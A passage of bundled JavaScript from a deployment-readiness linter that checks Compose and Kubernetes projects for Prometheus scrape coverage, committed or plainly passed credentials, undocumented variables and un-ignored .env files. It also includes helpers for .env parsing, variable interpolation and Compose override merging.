const _scrape_coverage_1 = __webpack_require__(35832);
exports["default"] = (0, types_1.defineCheck)({
    id: 'monitoring/service-scraped',
    target: 'repository',
    meta: {
        title: 'Service is not scraped by Prometheus',
        category: 'observability',
        severity: 'warning',
        operatedOnly: true,
        rationale: 'A server Prometheus never scrapes has no `up` series: the service-down alert cannot fire for it, its dashboard panels stay empty and an outage is found by the users of the LLM gateway, not by on-call. New MCP servers are typically added to Compose without a scrape target; the Production Readiness Roadmap requires every MCP server to be monitored before it reaches production.',
        remediation: 'Add the service to a scrape job: a static target `<service>:<metrics port>` on the shared network, a Docker SD job whose `keep` rule matches a label the service carries (e.g. `prometheus.io/scrape: "true"`), or, on Kubernetes, a ServiceMonitor/PodMonitor whose selector matches the Service or pods.',
        messages: {
            notScraped: '{{kind}} "{{service}}"{{where}} is not scraped by Prometheus: {{reason}}',
        },
    },
    check(ctx) {
        const sources = { config: ctx.config, compose: ctx.compose, kubernetes: ctx.kubernetes };
        // Every environment's version of a service: an override may change the labels discovery keys on.
        let subjects = (0, list_services_1.findMcpServices)(sources);
        let kind = 'MCP service';
        if (!subjects.length) {
            subjects = (0, list_services_1.listServices)(sources).filter((s) => s.platform === 'compose' && s.publishedPorts.length);
            kind = 'service';
        }
        if (!subjects.length) {
            ctx.notApplicable();
            return;
        }
        const jobs = (0, _scrape_coverage_1.scrapeJobsOf)(ctx.prometheusConfigs);
        const monitors = ctx.kubernetes.some((o) => o.kind === 'ServiceMonitor' || o.kind === 'PodMonitor');
        // Without MCP servers, scraping is asked only of a repository that has Prometheus (or monitors) of its own.
        if (kind === 'service' && !jobs.length && !monitors)
            return ctx.notApplicable();
        const reported = new Set();
        for (const s of subjects) {
            if ((0, _scrape_coverage_1.scrapersOf)(s, jobs, ctx.kubernetes).length)
                continue;
            const key = deploymentKey(s);
            if (reported.has(key))
                continue;
            reported.add(key);
            ctx.report({
                messageId: 'notScraped',
                data: {
                    kind: s.platform === 'kubernetes' ? `${s.object?.kind ?? 'workload'} of ${kind}` : kind,
                    service: s.name,
                    where: whereOf(s),
                    reason: reasonOf(s, jobs.length, monitors),
                },
                at: s.loc,
            });
        }
    },
});
function deploymentKey(s) {
    return `${s.platform}|${s.stack ?? s.object?.namespace ?? ''}|${s.name}|${s.loc.file}:${s.loc.line}`;
}
function whereOf(s) {
    return s.platform === 'compose' ? ` (stack ${s.stack})` : s.object?.namespace ? ` (namespace ${s.object.namespace})` : '';
}
function reasonOf(s, jobCount, hasMonitors) {
    if (!jobCount && !(s.platform === 'kubernetes' && hasMonitors))
        return 'the repository has no Prometheus scrape configuration';
    const port = (s.platform === 'kubernetes' ? s.servicePorts : s.containerPorts)[0];
    if (s.platform === 'kubernetes' && !s.hosts.length)
        return 'no Service selects its pods, so no ServiceMonitor or static target can reach it, and no PodMonitor or Kubernetes SD job of role pod selects it';
    if (s.platform === 'kubernetes')
        return `no static target, Kubernetes SD job, ServiceMonitor or PodMonitor selects it${port ? ` (e.g. a ServiceMonitor for its Service on port ${port})` : ''}`;
    return `no static target "${s.hosts[0]}:${port ?? '<port>'}" and no Docker SD job whose filters and keep rules match its labels`;
}


/***/ }),

/***/ 38057:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
/**
 * The secret scanner's verdict on the whole tree, as one readiness check. Its findings come from
 * the scanner (`stackgate secrets --mode tree`), run by `stackgate score`; validate never emits it.
 */
exports["default"] = (0, types_1.defineEngineCheck)({
    id: 'secrets/committed-secrets',
    engine: 'secret-scan',
    meta: {
        title: 'No credentials committed to the repository',
        category: 'security',
        severity: 'error',
        rationale: 'A token in a Compose file, an .env file or a Kubernetes Secret is readable by everyone with access to the repository and stays in its history after deletion; the MCP deployment roadmap names credential leaks its top risk. Every secret found is a blocker, whatever the score.',
        remediation: 'Revoke the credential at its provider, remove it from the file and load it from the platform (Portainer stack variables, External Secrets, GitHub Actions secrets); accept reviewed test values with `stackgate secrets --update-baseline`.',
        messages: {
            found: '{{message}}',
        },
    },
});


/***/ }),

/***/ 29847:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
/** Variable names that hold credentials: DB_PASSWORD, PGPASSWORD, GITHUB_TOKEN, N8N_API_KEY, CLIENT_SECRET. */
const CREDENTIAL = /(PASSWORD|PASSWD|TOKEN|SECRET|API_?KEY|ACCESS_?KEY|PRIVATE_?KEY|AUTH_?KEY|CREDENTIALS?)(_|$)/i;
/** Settings that point at a file holding the credential (the Docker secrets convention). */
const FILE_SETTING = /_(FILE|PATH|FILES)$/i;
const REFERENCE = /\$\{?([A-Za-z_][A-Za-z0-9_]*)/g;
exports["default"] = (0, types_1.defineCheck)({
    id: 'secrets/compose-secrets-in-production',
    target: 'repository',
    meta: {
        title: 'Production credential passed as a plain environment variable',
        category: 'security',
        severity: 'info',
        rationale: "A credential interpolated into `environment:` ends up in `docker inspect`, in the container's /proc/1/environ, in every child process and in crash dumps and debug logs that print the environment, and the Portainer stack shows it to everyone with access to the stack. Compose `secrets:` (or a `*_FILE` variable pointing at /run/secrets) mount it as a file readable only inside the container. Checkov (CKV_DOCKER_*) and the CIS Docker Benchmark recommend the same.",
        remediation: 'Declare the credential as a Compose secret (`secrets: { db_password: { environment: DB_PASSWORD } }` or `file:`), grant it to the service (`secrets: [db_password]`) and have the service read the file, e.g. `POSTGRES_PASSWORD_FILE: /run/secrets/db_password`; for images without *_FILE support, use an entrypoint that exports the file.',
        messages: {
            plainCredential: 'service "{{service}}" gets credential {{variable}} as a plain environment variable interpolated from {{source}}{{where}}; pass it through Compose `secrets:` or a *_FILE variable',
        },
    },
    check(ctx) {
        const production = ctx.compose.environments.filter((e) => e.isProduction);
        const stacks = production.flatMap((env) => (ctx.compose.effective.get(env.name) ?? []).map((stack) => ({ env: env.name, stack })));
        if (!stacks.some(({ stack }) => stack.services.length))
            return ctx.notApplicable();
        const raw = new RawValues((file) => ctx.yaml(file));
        // One finding per service and variable, naming every production environment it reaches.
        const found = new Map();
        for (const { env, stack } of stacks) {
            for (const service of stack.services) {
                for (const entry of envEntries(service.node.entries.get('environment'))) {
                    const text = raw.at(entry.loc);
                    if (text === undefined || FILE_SETTING.test(entry.key))
                        continue;
                    const references = [...text.replace(/\$\$/g, '').matchAll(REFERENCE)].map((m) => m[1]);
                    if (!references.length)
                        continue;
                    const credentials = references.filter((r) => CREDENTIAL.test(r));
                    if (!CREDENTIAL.test(entry.key) && !credentials.length)
                        continue;
                    const source = (credentials.length ? credentials : references).map((r) => `\${${r}}`).join(', ');
                    const key = `${entry.loc.file}:${entry.loc.line}:${entry.loc.column}|${service.name}|${entry.key}`;
                    const hit = found.get(key) ?? { loc: entry.loc, data: { service: service.name, variable: entry.key, source }, environments: [] };
                    hit.environments.push(env);
                    found.set(key, hit);
                }
            }
        }
        for (const { loc, data, environments } of found.values())
            ctx.report({ messageId: 'plainCredential', data: { ...data, where: inEnvironments(environments) }, at: loc });
    },
});
/** " in prod, live" for messages; nothing in a repository without environments (its one unnamed pass). */
function inEnvironments(environments) {
    const named = environments.filter((e) => e !== '');
    return named.length ? ` in ${named.join(', ')}` : '';
}
/** Entries of `environment:` (a map, or a list of KEY=VALUE) with the position of their value. */
function envEntries(node) {
    if (node?.kind === 'map')
        return [...node.entries].map(([key, v]) => ({ key, loc: v.loc }));
    if (node?.kind !== 'seq')
        return [];
    return node.items.flatMap((item) => item.kind === 'scalar' && typeof item.value === 'string' && item.value.includes('=')
        ? [{ key: item.value.slice(0, item.value.indexOf('=')), loc: item.loc }]
        : []);
}
/** The text of a scalar as written in its file, before interpolation, by position. */
class RawValues {
    yaml;
    byFile = new Map();
    constructor(yaml) {
        this.yaml = yaml;
    }
    at(loc) {
        let index = this.byFile.get(loc.file);
        if (!index) {
            index = new Map();
            const add = (n) => {
                if (!n)
                    return;
                if (n.kind === 'scalar') {
                    if (typeof n.value === 'string')
                        index.set(`${n.loc.line}:${n.loc.column}`, n.value);
                }
                else if (n.kind === 'seq')
                    n.items.forEach(add);
                else
                    n.entries.forEach(add);
            };
            for (const doc of this.yaml(loc.file)?.documents ?? [])
                add(doc.root);
            this.byFile.set(loc.file, index);
        }
        return index.get(`${loc.line}:${loc.column}`);
    }
}


/***/ }),

/***/ 5475:
/***/ (function(__unused_webpack_module, exports, __webpack_require__) {


var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", ({ value: true }));
const project_1 = __webpack_require__(19409);
const node_path_1 = __importDefault(__webpack_require__(76760));
const env_file_1 = __webpack_require__(46014);
const interpolate_1 = __webpack_require__(56543);
const types_1 = __webpack_require__(15200);
/** Set by every shell that runs `docker compose`. */
const SHELL_VARIABLES = new Set(['HOME', 'USER', 'PWD', 'PATH', 'HOSTNAME', 'SHELL', 'TMPDIR', 'LANG']);
exports["default"] = (0, types_1.defineCheck)({
    id: 'secrets/env-example',
    target: 'repository',
    meta: {
        title: 'Required Compose variable is not documented',
        category: 'operations',
        severity: 'info',
        rationale: "A Compose file that uses `${GITHUB_TOKEN}` or `${DB_PASSWORD:?}` without a default only starts where someone knows to set them. When the list lives in nobody's head, a new Portainer endpoint or a restored host comes up with empty credentials (Compose substitutes an empty string for a plain `${VAR}`), and the failure shows at runtime, not at deploy time.",
        remediation: 'List every required variable, with a placeholder and a comment, in a committed `.env.example` next to the Compose file (never the real value), or give it a value per environment in stackgate.yml `environments.<env>.variables`.',
        messages: {
            undocumented: 'variable "{{variable}}" is required by the Compose files (no default) but no .env.example, env file or stackgate.yml `environments.*.variables` lists it',
        },
    },
    check(ctx) {
        const files = [...new Set(ctx.compose.stacks.flatMap(project_1.stackFiles))].sort();
        const firstUse = new Map();
        for (const file of files) {
            for (const doc of ctx.yaml(file)?.documents ?? []) {
                walk(doc.root, (value, loc) => {
                    for (const issue of (0, interpolate_1.interpolateString)(value, {}).issues) {
                        if ((issue.kind === 'undefined' || issue.kind === 'required') && issue.variable && !firstUse.has(issue.variable))
                            firstUse.set(issue.variable, loc);
                    }
                });
            }
        }
        for (const v of SHELL_VARIABLES)
            firstUse.delete(v);
        if (!firstUse.size)
            return ctx.notApplicable();
        const documented = new Set();
        for (const env of Object.values(ctx.config.environments))
            Object.keys(env.variables).forEach((k) => documented.add(k));
        for (const file of ctx.paths) {
            if (!isEnvFile(node_path_1.default.posix.basename(file)))
                continue;
            Object.keys((0, env_file_1.parseEnvFile)(ctx.read(file) ?? '').vars).forEach((k) => documented.add(k));
            // Commented-out entries (`# GITHUB_TOKEN=`) document a variable too.
            for (const m of (ctx.read(file) ?? '').matchAll(/^\s*#\s*(?:export\s+)?([A-Za-z_][A-Za-z0-9_]*)=/gm))
                documented.add(m[1]);
        }
        for (const [variable, loc] of firstUse) {
            if (!documented.has(variable))
                ctx.report({ messageId: 'undocumented', data: { variable }, at: loc });
        }
    },
});
function isEnvFile(base) {
    return /^\.env(\..+)?$/.test(base) || /\.env(\.(example|sample|template|dist))?$/.test(base) || /^env\.(example|sample|template|dist)$/.test(base);
}
/** Every string scalar of a Compose file that Compose interpolates (extension fields are not). */
function walk(node, visit, key = '') {
    if (!node || key.startsWith('x-'))
        return;
    if (node.kind === 'scalar') {
        if (typeof node.value === 'string' && node.value.includes('$'))
            visit(node.value, node.loc);
    }
    else if (node.kind === 'seq')
        node.items.forEach((i) => walk(i, visit));
    else
        for (const [k, v] of node.entries)
            walk(v, visit, k);
}


/***/ }),

/***/ 87465:
/***/ (function(__unused_webpack_module, exports, __webpack_require__) {


var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", ({ value: true }));
const project_1 = __webpack_require__(19409);
const node_path_1 = __importDefault(__webpack_require__(76760));
const ignore_1 = __importDefault(__webpack_require__(70298));
const test_paths_1 = __webpack_require__(76869);
const discover_1 = __webpack_require__(23866);
const types_1 = __webpack_require__(15200);
/** `${VAR}` or `$VAR` in a Compose file (`$$` is a literal dollar). */
const INTERPOLATION = /(?:^|[^$])\$(?:\{[A-Za-z_]|[A-Za-z_])/m;
/** `.env.example`, `.env.sample`, `example.env`: meant to be committed. */
const EXAMPLE = /(^|[.-])(example|sample|template|dist|tpl)([.-]|$)/i;
exports["default"] = (0, types_1.defineCheck)({
    id: 'secrets/env-files-ignored',
    target: 'repository',
    meta: {
        title: '.env files are not git-ignored',
        category: 'security',
        severity: 'warning',
        rationale: 'Docker Compose reads `.env` next to the Compose file, which is where people put the real GITHUB_TOKEN and database passwords "just for a quick test". Unless .gitignore excludes it, the next `git add .` publishes them (asked where a Compose file interpolates variables, or a .env file exists), and the token stays in the history after the file is removed. The MCP deployment roadmap names credential leaks its top risk; gitleaks and detect-secrets catch the leak only after the commit.',
        remediation: 'Add `.env` and `.env.*` with an exception for the example (`!.env.example`) to .gitignore, keep non-secret defaults in a committed `.env.example` (or in stackgate.yml `environments.<env>.variables`), and move committed .env files to that example.',
        messages: {
            notIgnored: '.env files are not git-ignored: {{files}}; add ".env" and ".env.*" (with "!.env.example") to .gitignore',
        },
    },
    check(ctx) {
        const rules = [];
        for (const file of ctx.paths) {
            if (node_path_1.default.posix.basename(file) !== '.gitignore')
                continue;
            const dir = node_path_1.default.posix.dirname(file);
            rules.push({ base: dir === '.' ? '' : dir, ig: (0, ignore_1.default)().add(ctx.read(file) ?? '') });
        }
        // Where Compose reads .env: the directory of every Compose project that interpolates variables
        // (a stack without any has no use for one), plus env files already in the tree.
        const composeDirs = ctx.compose.stacks
            .filter((s) => (0, project_1.stackFiles)(s).some((f) => INTERPOLATION.test(ctx.read(f) ?? '')))
            .map((s) => node_path_1.default.posix.dirname(s.files[0]));
        const candidates = new Set(composeDirs.map((d) => (d === '.' ? '.env' : `${d}/.env`)));
        for (const file of ctx.paths) {
            const base = node_path_1.default.posix.basename(file);
            if ((base === '.env' || base.startsWith('.env.')) && !EXAMPLE.test(base.slice(4)))
                candidates.add(file);
        }
        // A .env among test fixtures is committed on purpose (the values a test loads).
        for (const file of candidates)
            if ((0, test_paths_1.isTestPath)(ctx.config, file))
                candidates.delete(file);
        if (!candidates.size)
            return ctx.notApplicable(); // no Compose and no .env file: nothing reads one
        const exposed = [...candidates].filter((f) => !(0, discover_1.isIgnored)(rules, f, false)).sort();
        if (!exposed.length)
            return;
        const present = new Set(ctx.paths);
        const files = exposed.map((f) => (present.has(f) ? `${f} (in the tree)` : f)).join(', ');
        const gitignore = ctx.paths.includes('.gitignore') ? '.gitignore' : '.';
        ctx.report({ messageId: 'notIgnored', data: { files }, at: { file: gitignore, line: 1, column: 1 } });
    },
});


/***/ }),

/***/ 46014:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.parseEnvFile = parseEnvFile;
/**
 * `.env` files as Docker Compose reads them: KEY=VALUE, optional `export `, `#` comments,
 * single quotes (literal), double quotes (with \n, \t, \\ and \" escapes), inline ` #` comments on
 * unquoted values, and ${VAR} references to variables defined earlier.
 */
const interpolate_1 = __webpack_require__(56543);
function parseEnvFile(text, inherited = {}) {
    const vars = {};
    const problems = [];
    const lines = text.split(/\r?\n/);
    for (let i = 0; i < lines.length; i++) {
        const raw = lines[i];
        const trimmed = raw.trim();
        if (!trimmed || trimmed.startsWith('#'))
            continue;
        const m = /^(?:export\s+)?([A-Za-z_][A-Za-z0-9_.-]*)\s*=\s*(.*)$/.exec(trimmed);
        if (!m) {
            if (/^[A-Za-z_][A-Za-z0-9_.-]*$/.test(trimmed))
                continue; // a bare name: no value, ignored like Compose does
            // The line is not quoted: an env file holds credentials, and a malformed line may be one.
            problems.push({ line: i + 1, message: 'expected KEY=VALUE, a comment or a bare name; the line is neither (not shown: env files hold credentials)' });
            continue;
        }
        const key = m[1];
        let value = m[2];
        if (value.startsWith("'")) {
            const end = value.indexOf("'", 1);
            value = end > 0 ? value.slice(1, end) : value.slice(1);
        }
        else if (value.startsWith('"')) {
            // A double-quoted value may span lines.
            let body = value.slice(1);
            while (!hasClosingQuote(body) && i + 1 < lines.length)
                body += `\n${lines[++i]}`;
            const end = closingQuote(body);
            body = end >= 0 ? body.slice(0, end) : body;
            value = body.replace(/\\([nrt"\\$])/g, (_m, c) => ({ n: '\n', r: '\r', t: '\t' })[c] ?? c);
            value = (0, interpolate_1.interpolateString)(value, { ...inherited, ...vars }).value;
        }
        else {
            value = value.replace(/\s+#.*$/, '').trim();
            value = (0, interpolate_1.interpolateString)(value, { ...inherited, ...vars }).value;
        }
        vars[key] = value;
    }
    return { vars, problems };
}
function closingQuote(s) {
    for (let i = 0; i < s.length; i++) {
        if (s[i] === '\\')
            i++;
        else if (s[i] === '"')
            return i;
    }
    return -1;
}
function hasClosingQuote(s) {
    return closingQuote(s) >= 0;
}


/***/ }),

/***/ 56543:
/***/ ((__unused_webpack_module, exports) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.interpolateString = interpolateString;
const NAME = /^[A-Za-z_][A-Za-z0-9_]*/;
function interpolateString(input, vars) {
    const issues = [];
    if (!input.includes('$'))
        return { value: input, issues };
    const value = expand(input, vars, issues);
    return { value, issues };
}
function expand(input, vars, issues) {
    let out = '';
    let i = 0;
    while (i < input.length) {
        const ch = input[i];
        if (ch !== '$') {
            out += ch;
            i++;
            continue;
        }
        const next = input[i + 1];
        if (next === '$') {
            out += '$';
            i += 2;
            continue;
        }
        if (next === '{') {
            const end = matchingBrace(input, i + 1);
            if (end < 0) {
                issues.push({ kind: 'syntax', variable: '', message: `unclosed "\${" in "${input}"` });
                out += input.slice(i);
                break;
            }
            out += substitute(input.slice(i + 2, end), vars, issues);
            i = end + 1;
            continue;
        }
        const m = NAME.exec(input.slice(i + 1));
        if (m) {
            out += lookup(m[0], vars, issues);
            i += 1 + m[0].length;
            continue;
        }
        out += ch;
        i++;
    }
    return out;
}
function matchingBrace(s, open) {
    let depth = 0;
    for (let i = open; i < s.length; i++) {
        if (s[i] === '{')
            depth++;
        else if (s[i] === '}' && --depth === 0)
            return i;
    }
    return -1;
}
function lookup(name, vars, issues) {
    if (Object.prototype.hasOwnProperty.call(vars, name))
        return vars[name];
    issues.push({ kind: 'undefined', variable: name, message: `variable "${name}" is not set; it defaults to an empty string` });
    return '';
}
function substitute(body, vars, issues) {
    const m = NAME.exec(body);
    if (!m) {
        issues.push({ kind: 'syntax', variable: body, message: `invalid interpolation format "\${${body}}"` });
        return '';
    }
    const name = m[0];
    const rest = body.slice(name.length);
    const isSet = Object.prototype.hasOwnProperty.call(vars, name);
    const val = isSet ? vars[name] : undefined;
    if (rest === '')
        return lookup(name, vars, issues);
    const op = /^(:?[-?+])/.exec(rest)?.[1];
    if (!op) {
        issues.push({ kind: 'syntax', variable: name, message: `invalid interpolation format "\${${body}}"` });
        return '';
    }
    const arg = rest.slice(op.length);
    const colon = op.startsWith(':');
    const present = colon ? isSet && val !== '' : isSet;
    switch (op.slice(-1)) {
        case '-':
            return present ? val : expand(arg, vars, issues);
        case '+':
            return present ? expand(arg, vars, issues) : '';
        default: // '?'
            if (present)
                return val;
            issues.push({
                kind: 'required',
                variable: name,
                message: `required variable "${name}" is missing a value${arg ? `: ${expand(arg, vars, [])}` : ''}`,
            });
            return '';
    }
}


/***/ }),

/***/ 32264:
/***/ ((__unused_webpack_module, exports) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.mergeTopLevel = mergeTopLevel;
exports.mergeService = mergeService;
exports.toMapNode = toMapNode;
exports.portKey = portKey;
exports.parsePortSpec = parsePortSpec;
/** Keys whose value in an override replaces the base value wholesale. */
const REPLACED = new Set(['command', 'entrypoint', 'test']);
/** Keys written as a list of `KEY=VALUE` (or a map) that merge as maps. */
const MAP_LIKE = new Set(['environment', 'labels', 'annotations', 'extra_hosts', 'sysctls', 'args', 'driver_opts']);
/** Sequences merged as a set keyed by what identifies an entry. */
const UNIQUE_BY = {
    ports: portKey,
    volumes: volumeKey,
    secrets: fileRefKey,
    configs: fileRefKey,
    devices: deviceKey,
};
/** Service keys that can be written as a list or a map of names. */
const NAME_LIST_OR_MAP = new Set(['depends_on', 'networks']);
function mergeTopLevel(base, over) {
    return { ...mergeMaps(base, over, ''), keyLoc: base.keyLoc, loc: base.loc };
}
/** Merges an override service definition onto a base one. */
function mergeService(base, over) {
    const merged = mergeMaps(base, over, 'service');
    // The service keeps its first declaration's key position: that is where it is defined.
    return { ...merged, keyLoc: base.keyLoc ?? over.keyLoc, loc: base.loc };
}
function mergeMaps(base, over, parentKey) {
    const entries = new Map(base.entries);
    for (const [key, value] of over.entries) {
        const prev = entries.get(key);
        if (value.tag === '!reset') {
            entries.delete(key);
            continue;
        }
        if (!prev || value.tag === '!override') {
            entries.set(key, value);
            continue;
        }
        entries.set(key, mergeValue(key, prev, value, parentKey));
    }
    return { ...over, entries, keyLoc: over.keyLoc ?? base.keyLoc };
}
function mergeValue(key, prev, value, parentKey) {
    if (parentKey === 'services' && prev.kind === 'map' && value.kind === 'map')
        return mergeService(prev, value);
    if (REPLACED.has(key) && !(key === 'test' && parentKey !== 'healthcheck'))
        return value;
    if (MAP_LIKE.has(key)) {
        const sep = key === 'extra_hosts' ? ':' : '=';
        return mergeMaps(toMapNode(prev, sep), toMapNode(value, sep), key);
    }
    if (NAME_LIST_OR_MAP.has(key) && parentKey === 'service') {
        return mergeMaps(namesToMap(prev), namesToMap(value), key);
    }
    const unique = UNIQUE_BY[key];
    if (unique && prev.kind === 'seq' && value.kind === 'seq')
        return mergeUnique(prev, value, unique);
    if (prev.kind === 'map' && value.kind === 'map')
        return mergeMaps(prev, value, key);
    if (prev.kind === 'seq' && value.kind === 'seq')
        return appendDistinct(prev, value);
    return value;
}
function appendDistinct(prev, value) {
    const seen = new Set(prev.items.filter(isScalarNode).map((n) => String(n.value)));
    const items = [...prev.items];
    for (const item of value.items) {
        if (isScalarNode(item) && seen.has(String(item.value)))
            continue;
        items.push(item);
    }
    return { ...value, items };
}
function mergeUnique(prev, value, keyOf) {
    const byKey = new Map();
    for (const item of prev.items)
        byKey.set(keyOf(item), item);
    for (const item of value.items)
        byKey.set(keyOf(item), item);
    return { ...value, items: [...byKey.values()] };
}
function isScalarNode(n) {
    return n.kind === 'scalar';
}
/** A `["KEY=VALUE", ...]` list (or a map) as a map node whose entries keep their item's position. */
function toMapNode(node, separator) {
    if (node.kind === 'map')
        return node;
    const entries = new Map();
    if (node.kind === 'seq') {
        for (const item of node.items) {
            if (item.kind !== 'scalar' || item.value === null)
                continue;
            const text = String(item.value);
            const sep = text.includes('=') ? '=' : separator;
            const at = text.indexOf(sep);
            const k = at >= 0 ? text.slice(0, at) : text;
            const v = { kind: 'scalar', value: at >= 0 ? text.slice(at + 1) : null, loc: item.loc, keyLoc: item.loc };
            entries.set(k, v);
        }
    }
    return { kind: 'map', entries, loc: node.loc, keyLoc: node.keyLoc, tag: node.tag };
}
function namesToMap(node) {
    if (node.kind === 'map')
        return node;
    const entries = new Map();
    if (node.kind === 'seq') {
        for (const item of node.items) {
            if (item.kind === 'scalar' && item.value !== null) {
                entries.set(String(item.value), { kind: 'map', entries: new Map(), loc: item.loc, keyLoc: item.loc });
            }
        }
    }
    return { kind: 'map', entries, loc: node.loc, keyLoc: node.keyLoc, tag: node.tag };
}
function scalarText(n) {
    return n && n.kind === 'scalar' && n.value !== null ? String(n.value) : '';
}
/** Identity of a port mapping: host ip, published port, target port and protocol. */
function portKey(item) {
    if (item.kind === 'map') {
        const e = item.entries;
        return `${scalarText(e.get('host_ip'))}|${scalarText(e.get('published'))}|${scalarText(e.get('target'))}/${scalarText(e.get('protocol')) || 'tcp'}`;
    }
    const p = parsePortSpec(scalarText(item));
    return p ? `${p.hostIp}|${p.published}|${p.target}/${p.protocol}` : scalarText(item);
}
/** Parses Compose short port syntax `[host_ip:][published:]target[/protocol]`, ranges included. */
function parsePortSpec(spec) {
    const m = /^(?:(\[[^\]]+\]|[^:]*?):)??(?:([\d-]*):)?([\d-]+)(?:\/(\w+))?$/.exec(spec.trim());
    if (!m)
        return undefined;
    return { hostIp: (m[1] ?? '').replace(/^\[|\]$/g, ''), published: m[2] ?? '', target: m[3], protocol: m[4] ?? 'tcp' };
}
function volumeKey(item) {
    if (item.kind === 'map')
        return scalarText(item.entries.get('target'));
    const parts = scalarText(item).split(':');
    return parts.length >= 2 ? parts[1] : parts[0];
}
function fileRefKey(item) {
    if (item.kind === 'map')
        return scalarText(item.entries.get('target')) || scalarText(item.entries.get('source'));
    return scalarText(item);
}
function deviceKey(item) {
    if (item.kind === 'map')
        return scalarText(item.entries.get('target'));
    const parts = scalarText(item).split(':');
    return parts[1] ?? parts[0];
}


/***/ }),

/***/ 19409:
/***/ (function(__unused_webpack_module, exports, __webpack_require__) {


var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.environmentsOf = environmentsOf;
exports.layoutEnvironments = layoutEnvironments;
exports.directoryLayoutEnvironments = directoryLayoutEnvironments;
exports.buildComposeProject = buildComposeProject;
exports.isBaseComposeFile = isBaseComposeFile;
exports.stackFiles = stackFiles;
exports.discoverStacks = discoverStacks;
exports.stackFileFor = stackFileFor;
/**
 * Compose stacks and their effective model per environment: base files + environment overrides,
 * interpolated from env files, with `extends` resolved and profiles applied.
 */
const node_path_1 = __importDefault(__webpack_require__(76760));
const environments_1 = __webpack_require__(72658);
const yaml_tree_1 = __webpack_require__(43183);
const workspace_1 = __webpack_require__(6936);
const yaml_1 = __webpack_require__(38815);
const errors_1 = __webpack_require__(74296);
const env_file_1 = __webpack_require__(46014);
const interpolate_1 = __webpack_require__(56543);
const merge_1 = __webpack_require__(32264);
/**
 * The environments of the Compose stacks: those stackgate.yml names, else those of the layout
 * (layoutEnvironments), else none: then the stacks are built once, under the unnamed environment.
 */
function environmentsOf(config, composeFiles = []) {
    const configured = (0, environments_1.configuredEnvironmentNames)(config);
    const names = configured.length || config.stacks ? configured : layoutEnvironments(composeFiles);
    return names.length ? names.map((name) => ({ name, isProduction: (0, environments_1.isProductionEnvironment)(config, name) })) : [environments_1.UNNAMED_ENVIRONMENT];
}
/**
 * The environments a Compose layout names: `<dir>/<env>` directories beside a `<dir>/common` one
 * (stacks/common + stacks/prod; directoryLayoutEnvironments), and `compose.<env>.yml` /
 * `docker-compose.<env>.yml` beside a base file, where <env> is a name of an environment (dev,
 * staging, prod, ...; config/environments.ts), in promotion order.
 */
function layoutEnvironments(composeFiles) {
    const names = new Set(directoryLayoutEnvironments(composeFiles));
    for (const f of composeFiles) {
        const env = /^(?:docker-)?compose[.-](.+)\.ya?ml$/i.exec(node_path_1.default.posix.basename(f))?.[1];
        if (env && (0, environments_1.isEnvironmentName)(env) && composeFiles.some((b) => isBaseComposeFile(b) && node_path_1.default.posix.dirname(b) === node_path_1.default.posix.dirname(f)))
            names.add(env);
    }
    return (0, environments_1.sortEnvironmentNames)([...names]);
}
/**
 * The environments of the `<dir>/common` + `<dir>/<env>` layout alone: a deployment model laid out
 * per environment, where an override file beside a base one (`docker-compose.dev.yml`) may be only a
 * developer's variant of what is deployed.
 */
function directoryLayoutEnvironments(composeFiles) {
    const dirs = new Set(composeFiles.map((f) => node_path_1.default.posix.dirname(f)));
    const names = new Set();
    for (const dir of dirs) {
        const parent = node_path_1.default.posix.dirname(dir);
        const name = node_path_1.default.posix.basename(dir);
        if (name !== 'common' && dirs.has(parent === '.' ? 'common' : `${parent}/common`) && (0, environments_1.isEnvironmentName)(name))
            names.add(name);
    }
    return (0, environments_1.sortEnvironmentNames)([...names]);
}
function buildComposeProject(ws, config) {
    const environments = environmentsOf(config, ws.composeFiles);
    const stacks = stackDefinitions(ws, config, environments);
    const problems = [];
    const effective = new Map();
    for (const env of environments) {
        const list = [];
        for (const stack of stacks) {
            const built = buildEffectiveStack(ws, config, stack, env.name, problems);
            if (built)
                list.push(built);
        }
        effective.set(env.name, list);
    }
    return { environments, stacks, effective, problems: dedupeProblems(problems) };
}
/** The stacks stackgate.yml lists, else those the layout gives (discoverStacks). */
function stackDefinitions(ws, config, environments = environmentsOf(config, ws.composeFiles)) {
    return config.stacks
        ? Object.entries(config.stacks).map(([name, s]) => ({ name, files: s.files, environments: s.environments, envFiles: s.envFiles }))
        : withBases(ws, discoverStacks(ws.composeFiles, environments.map((e) => e.name).filter((name) => name !== '')));
}
/** Whether a file is a base Compose file by its name (`compose.yaml`, `docker-compose.yml`), the one `docker compose` reads without `-f`. */
function isBaseComposeFile(file) {
    return /^(docker-)?compose\.ya?ml$/i.test(node_path_1.default.posix.basename(file));
}
/** Every file a stack definition layers: its base files and every environment's overrides. */
function stackFiles(stack) {
    return [...stack.files, ...Object.values(stack.environments).flat()];
}
/** The top-level networks and volumes a Compose file declares. */
function topLevelNames(ws, file) {
    const root = composeRoot(ws, file);
    const keys = (key) => {
        const node = root && root !== 'missing' ? root.entries.get(key) : undefined;
        return new Set(node?.kind === 'map' ? node.entries.keys() : []);
    };
    return { networks: keys('networks'), volumes: keys('volumes') };
}
/** Networks and named volumes a Compose file's services use without declaring them at its top level (`default` aside). */
function undeclaredReferences(ws, file) {
    const root = composeRoot(ws, file);
    const services = root && root !== 'missing' ? (0, yaml_tree_1.toPlain)(root.entries.get('services')) : undefined;
    const declared = topLevelNames(ws, file);
    const networks = new Set();
    const volumes = new Set();
    if (services && typeof services === 'object' && !Array.isArray(services)) {
        for (const service of Object.values(services)) {
            if (!service || typeof service !== 'object')
                continue;
            const s = service;
